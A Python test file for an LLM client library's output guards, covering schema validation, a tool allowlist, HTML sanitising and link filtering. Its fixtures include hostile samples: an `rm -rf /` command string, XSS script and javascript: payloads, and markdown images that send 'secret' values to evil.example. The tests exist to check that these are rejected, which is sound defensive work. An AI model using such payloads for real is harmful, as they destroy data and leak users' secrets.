"""Model output is untrusted: structured output validated, tools allowlisted, HTML sanitised."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from pydantic import BaseModel

import llmkit
from llmkit.clock import VirtualClock
from llmkit.output import (
    OutputEvent,
    OutputGuardLayer,
    OutputGuardOutcome,
    OutputLimits,
    OutputRejectedError,
    ToolGuard,
    filter_links,
    parse_structured,
    render_html,
    schema_options,
    structured_chat,
)
from llmkit.testing import Scripted, ScriptedTransport
from llmkit.types import ChatResponse, Message, Tool, ToolCall


class Ticket(BaseModel):
    title: str
    priority: int


TICKET_SCHEMA = {
    "type": "object",
    "properties": {"title": {"type": "string"}, "priority": {"type": "integer"}},
    "required": ["title", "priority"],
    "additionalProperties": False,
}


def test_parse_structured_with_pydantic_and_json_schema() -> None:
    good = '{"title": "Login fails", "priority": 2}'
    assert parse_structured(good, Ticket) == Ticket(title="Login fails", priority=2)
    assert parse_structured("```json\n" + good + "\n```", TICKET_SCHEMA)["priority"] == 2
    with pytest.raises(OutputRejectedError) as info:
        parse_structured('{"title": "x", "priority": "high"}', Ticket)
    assert info.value.check == "schema"
    assert "priority" in info.value.errors[0]
    assert info.value.kind == "invalid_response"
    with pytest.raises(OutputRejectedError, match=r"\(schema\)"):
        parse_structured('{"title": "x", "priority": 1, "admin": true}', TICKET_SCHEMA)
    with pytest.raises(OutputRejectedError) as info:
        parse_structured("__import__('os').system('rm -rf /')", Ticket)
    assert info.value.check == "json"  # parsed as JSON, never evaluated
    with pytest.raises(OutputRejectedError, match="deeper"):
        parse_structured("[" * 50 + "]" * 50, {"type": "array"})
    with pytest.raises(OutputRejectedError, match="chars"):
        parse_structured('"' + "a" * 50 + '"', {}, limits=OutputLimits(max_chars=10))


def test_schema_options_per_api() -> None:
    chat = schema_options("openai", Ticket)
    assert chat["response_format"]["json_schema"]["schema"]["required"] == ["title", "priority"]
    assert schema_options("openai", TICKET_SCHEMA, api="responses")["text"]["format"]["type"] == (
        "json_schema"
    )
    assert schema_options("anthropic", Ticket) == {}


def _chat_body(text: str) -> dict[str, Any]:
    return {
        "id": "c", "model": "m", "usage": {"prompt_tokens": 5, "completion_tokens": 5},
        "choices": [{"index": 0, "message": {"role": "assistant", "content": text},
                     "finish_reason": "stop"}],
    }  # fmt: skip


def _client(answers: list[str]) -> tuple[llmkit.Client, ScriptedTransport]:
    clock = VirtualClock()
    steps = [Scripted(json=_chat_body(a)) for a in answers]
    transport = ScriptedTransport(clock, steps)
    return llmkit.Client(transport=transport, clock=clock, api_key="sim", seed=0), transport


def test_structured_chat_retries_with_the_error_then_escalates() -> None:
    client, transport = _client(
        ["not json", '{"title": "t", "priority": "high"}', '{"title": "t", "priority": 1}']
    )
    result = structured_chat(
        client.chat, Ticket, models=["small", "large"], messages=[{"role": "user", "content": "x"}]
    )
    assert result.value == Ticket(title="t", priority=1)
    assert [(m, e.check) for m, e in result.failures] == [("small", "json"), ("small", "schema")]
    sent = [json.loads(r.content) for r in transport.requests]
    assert [b["model"] for b in sent] == ["small", "small", "large"]
    assert "response_format" in sent[0]
    retry = sent[1]["messages"]
    assert retry[-2] == {"role": "assistant", "content": "not json"}
    assert "rejected" in retry[-1]["content"]
    assert len(sent[2]["messages"]) == 2  # the larger model starts afresh


def test_structured_chat_uses_the_schema_parameter_of_the_api() -> None:
    seen: list[dict[str, Any]] = []

    def chat(**kw: Any) -> ChatResponse:
        seen.append(kw)
        return ChatResponse(text='{"title": "t", "priority": 1}', model="m", provider="x")

    structured_chat(chat, Ticket, models=["m"], messages=[Message("user", "q")], api="responses")
    structured_chat(
        chat, Ticket, models=["m"], messages=[Message("user", "q")], provider="anthropic"
    )
    assert seen[0]["text"]["format"]["type"] == "json_schema"
    assert "response_format" not in seen[0]
    assert "text" not in seen[1]
    assert "response_format" not in seen[1]
    assert "JSON schema" in seen[1]["messages"][0].content  # the schema is in the instructions


def test_structured_chat_raises_when_every_model_fails() -> None:
    client, _ = _client(["nope"])
    with pytest.raises(OutputRejectedError) as info:
        structured_chat(client.chat, Ticket, models=["a"], messages=[Message("user", "q")])
    assert info.value.check == "json"
    with pytest.raises(ValueError, match="at least one model"):
        structured_chat(client.chat, Ticket, models=[], messages=[])


SEARCH = Tool("search", "web search", {
    "type": "object", "properties": {"q": {"type": "string", "maxLength": 100}},
    "required": ["q"], "additionalProperties": False,
})  # fmt: skip
DELETE = Tool("delete_account", "", {"type": "object"})


def test_tool_guard_checks_name_and_arguments_before_anything_runs() -> None:
    guard = ToolGuard([SEARCH, DELETE], allow=frozenset({"search"}))
    assert guard.check(ToolCall("1", "search", '{"q": "cats"}')) == {"q": "cats"}
    cases = [
        (ToolCall("2", "delete_account", "{}"), "tool_name"),  # offered but not allowed here
        (ToolCall("3", "shell", '{"cmd": "rm"}'), "tool_name"),  # never offered
        (ToolCall("4", "search", '{"q": 1}'), "tool_arguments"),
        (ToolCall("5", "search", '{"q": "x", "url": "http://evil"}'), "tool_arguments"),
        (ToolCall("6", "search", "{q: cats}"), "tool_arguments"),
        (ToolCall("7", "search", "[1]"), "tool_arguments"),
    ]
    for call, check in cases:
        with pytest.raises(OutputRejectedError) as info:
            guard.check(call)
        assert info.value.check == check, call


def test_render_html_sanitises_and_keeps_only_allowlisted_links() -> None:
    evil = (
        '<p onclick="steal()">Hi <script>alert(1)</script><b>there</b></p>'
        '<a href="https://docs.example.com/x">docs</a> <a href="javascript:alert(1)">x</a>'
        '<a href="https://evil.example/?q=secret">evil</a><img src="https://evil.example/p.png">'
        '<img src="https://cdn.docs.example.com/ok.png"><iframe src="https://docs.example.com">'
    )
    out = render_html(evil, allowed_hosts=["docs.example.com"])
    for gone in ("script", "onclick", "javascript:", "evil.example", "iframe", "alert"):
        assert gone not in out, gone
    assert 'href="https://docs.example.com/x"' in out
    assert 'src="https://cdn.docs.example.com/ok.png"' in out
    assert 'rel="noopener noreferrer nofollow"' in out
    with pytest.raises(OutputRejectedError):
        render_html("x" * 11, limits=OutputLimits(max_chars=10))


def test_filter_links_removes_exfiltration_images_and_foreign_links() -> None:
    text = (
        "See [the docs](https://docs.example.com/a) and ![x](https://evil.example/?d=SECRET) "
        "or [this](http://docs.example.com/plain) or https://evil.example/raw."
    )
    out, removed = filter_links(text, ["docs.example.com"])
    assert "evil.example" not in out
    assert "[the docs](https://docs.example.com/a)" in out
    assert "this [link removed]" in out  # plain http is not allowed either
    assert len(removed) == 3


def _tool_response(*calls: ToolCall, text: str = "") -> ChatResponse:
    return ChatResponse(text=text, model="m", provider="openai", tool_calls=calls)


def test_guard_layer_raises_or_records() -> None:
    guard = ToolGuard([SEARCH])
    bad = _tool_response(ToolCall("1", "search", '{"q": "ok"}'), ToolCall("2", "shell", "{}"))
    request = llmkit.ChatRequest(model="m", messages=(llmkit.Message("user", "x"),))

    ctx = llmkit.CallContext(provider="openai")
    with pytest.raises(OutputRejectedError) as info:
        OutputGuardLayer(guard).handle(request, ctx, lambda r, c: bad)
    assert info.value.check == "tool_name"

    ctx = llmkit.CallContext(provider="openai")
    layer = OutputGuardLayer(guard, OutputLimits(max_chars=5), on_fail="record")
    big = bad.with_(text="0123456789")
    out = asyncio.run(layer.ahandle(request, ctx, _async(big)))
    assert [c.name for c in out.tool_calls] == ["search"]
    assert out.text == "01234"
    outcome = ctx.outcome(OutputGuardOutcome)
    assert outcome is not None
    events = outcome.events
    assert [e.check for e in events] == ["size", "tool_name"]
    assert ctx.events is not None
    assert [(e.event, e.target, e.reason) for e in ctx.events] == [
        ("output.rejected", "text", "size"),
        ("output.rejected", "shell", "tool_name"),
    ]
    assert isinstance(events[1], OutputEvent)
    assert events[1].tool == "shell"


def _async(response: ChatResponse) -> Any:
    async def nxt(_r: Any, _c: Any) -> ChatResponse:
        return response

    return nxt


def test_guard_layer_in_a_client_stack() -> None:
    body = {
        "id": "c", "model": "m",
        "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {
            "role": "assistant", "content": None,
            "tool_calls": [{"id": "t1", "type": "function",
                            "function": {"name": "shell", "arguments": "{}"}}]}}],
    }  # fmt: skip
    clock = VirtualClock()
    transport = ScriptedTransport(clock, [Scripted(json=body)])
    client = llmkit.Client(
        transport=transport, clock=clock, api_key="sim", seed=0,
        layers=[OutputGuardLayer(ToolGuard([SEARCH]))],
    )  # fmt: skip
    with pytest.raises(OutputRejectedError) as info:
        client.chat(model="m", messages=[{"role": "user", "content": "x"}], tools=[SEARCH])
    assert info.value.check == "tool_name"
    assert len(transport.requests) == 1  # not retried
